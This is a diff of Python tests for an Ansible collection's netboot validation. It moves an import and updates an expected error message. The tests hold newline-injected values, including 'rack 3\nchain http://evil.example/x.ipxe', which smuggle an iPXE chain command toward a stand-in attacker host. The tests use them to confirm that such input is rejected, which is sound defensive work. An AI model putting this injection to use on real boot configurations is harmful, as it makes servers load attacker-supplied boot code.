@@ -261,7 +261,7 @@ def test_kernel_params_at_the_limit_and_usual_forms_pass(example: Any) -> None:
 
 def test_kernel_params_rule_is_the_filter_the_netboot_preflight_uses() -> None:
     from ansible_collections.diskless.datacenter.plugins.filter.datacenter_model import FilterModule
-    from ansible_collections.diskless.datacenter.plugins.module_utils._inventory import kernel_params_problem
+    from ansible_collections.diskless.datacenter.plugins.module_utils._boot_values import kernel_params_problem
 
     rule = FilterModule().filters()["kernel_params_problem"]
     for value in ["quiet", "quiet\nchain x", "a" * 2048, 'x"y', None]:
@@ -282,4 +282,6 @@ def test_inventory_hostname_must_be_a_dns_name(example: Any, name: str) -> None:
 def test_description_must_be_one_line(example: Any) -> None:
     hostvars, groups = example
     hostvars["r640"]["dc_description"] = "rack 3\nchain http://evil.example/x.ipxe"
-    assert problems_of(hostvars, groups) == ["r640: dc_description='rack 3\\nchain http://evil.example/x.ipxe': must be one line"]
+    assert problems_of(hostvars, groups) == [
+        "r640: dc_description='rack 3\\nchain http://evil.example/x.ipxe': control characters or line breaks not allowed: '\\n'"
+    ]
